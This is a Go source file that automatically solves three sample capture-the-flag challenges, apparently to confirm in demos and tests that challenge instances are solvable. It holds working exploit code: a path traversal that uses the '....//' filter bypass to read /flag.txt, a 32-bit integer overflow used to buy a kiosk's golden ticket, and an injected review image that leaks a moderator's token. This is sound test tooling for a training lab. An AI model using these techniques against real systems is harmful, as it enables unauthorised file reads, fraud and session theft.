// Package solve plays the sample challenges as a player would, over the network alone. The demo and
// the journeys use it to prove that an instance can really be solved.
package solve

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"html"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"time"
)

// pollInterval is the time between two looks at a page that another container has to fill first.
const pollInterval = 250 * time.Millisecond

// maxDepth is how deep the folder of articles is assumed to lie at most: more steps up than there are
// folders end at the root.
const maxDepth = 16

// Web reads file, an absolute path such as /flag.txt, from the container of the web challenge at base,
// the address of its front page, through the path traversal in the article's name. It returns the
// file without its last line break.
func Web(ctx context.Context, client *http.Client, base, file string) (string, error) {
	// One pass that removes "../" turns "....//" into "../".
	name := strings.Repeat("....//", maxDepth) + strings.TrimPrefix(file, "/")
	flag, err := fetch(ctx, client, http.MethodGet, base+"/article?"+url.Values{"name": {name}}.Encode())
	if err != nil {
		return "", fmt.Errorf("web: %w", err)
	}
	return strings.TrimSuffix(flag, "\n"), nil
}

var goldenTicket = regexp.MustCompile(`(?s)golden ticket: (.*)\n$`)

// Pwn buys the golden ticket of the kiosk at address, HOST:PORT, with money that a wrapped 32-bit
// product brings in.
func Pwn(ctx context.Context, address string) (string, error) {
	connection, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
	if err != nil {
		return "", fmt.Errorf("pwn: %w", err)
	}
	defer connection.Close()
	stop := context.AfterFunc(ctx, func() { connection.Close() })
	defer stop()

	// 2,500 times 1,200,000 is 3,000,000,000, in 32 bits -1,294,967,296.
	if _, err := io.WriteString(connection, "2\n1200000\n3\n"); err != nil {
		return "", fmt.Errorf("pwn: %w", err)
	}
	conversation, err := io.ReadAll(bufio.NewReader(connection))
	if err != nil {
		return "", fmt.Errorf("pwn: %w", errors.Join(err, ctx.Err()))
	}
	match := goldenTicket.FindSubmatch(conversation)
	if match == nil {
		return "", fmt.Errorf("pwn: the kiosk sold no golden ticket; its last words: %q", tail(string(conversation)))
	}
	return string(match[1]), nil
}

var tokenInAddress = regexp.MustCompile(`/reviews\?(token=\S+?)</p>`)

// Shop leaves a review at base, the address of the shop's front page, that makes the moderator's
// browser tell the shop the address with its token, and waits for it until the context is done.
func Shop(ctx context.Context, client *http.Client, base string) (string, error) {
	// The path is relative, so that it is right for every address the moderator may know the shop by.
	review := `Very good cheese. <img src="counter.gif">`
	if _, err := fetch(ctx, client, http.MethodPost, base+"/reviews?"+url.Values{"text": {review}}.Encode()); err != nil {
		return "", fmt.Errorf("shop: leave a review: %w", err)
	}
	ticker := time.NewTicker(pollInterval)
	defer ticker.Stop()
	for {
		visitors, err := fetch(ctx, client, http.MethodGet, base+"/visitors")
		if err != nil {
			return "", fmt.Errorf("shop: read the visitors: %w", err)
		}
		if match := tokenInAddress.FindStringSubmatch(visitors); match != nil {
			query, err := url.ParseQuery(html.UnescapeString(match[1]))
			if err != nil {
				return "", fmt.Errorf("shop: read the token: %w", err)
			}
			return query.Get("token"), nil
		}
		select {
		case <-ctx.Done():
			return "", fmt.Errorf("shop: the moderator has not come: %w", ctx.Err())
		case <-ticker.C:
		}
	}
}

// fetch returns the body of the answer, which must not be an error. It follows no redirect: behind a
// proxy a path from the root would lead elsewhere.
func fetch(ctx context.Context, client *http.Client, method, address string) (string, error) {
	request, err := http.NewRequestWithContext(ctx, method, address, nil)
	if err != nil {
		return "", err
	}
	still := *client
	still.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	response, err := still.Do(request)
	if err != nil {
		return "", err
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err != nil {
		return "", err
	}
	if response.StatusCode >= http.StatusBadRequest {
		return "", fmt.Errorf("%s: %s", response.Status, tail(string(body)))
	}
	return string(body), nil
}

// tail is the end of a text that may be long.
func tail(text string) string {
	const most = 200
	return text[max(0, len(text)-most):]
}
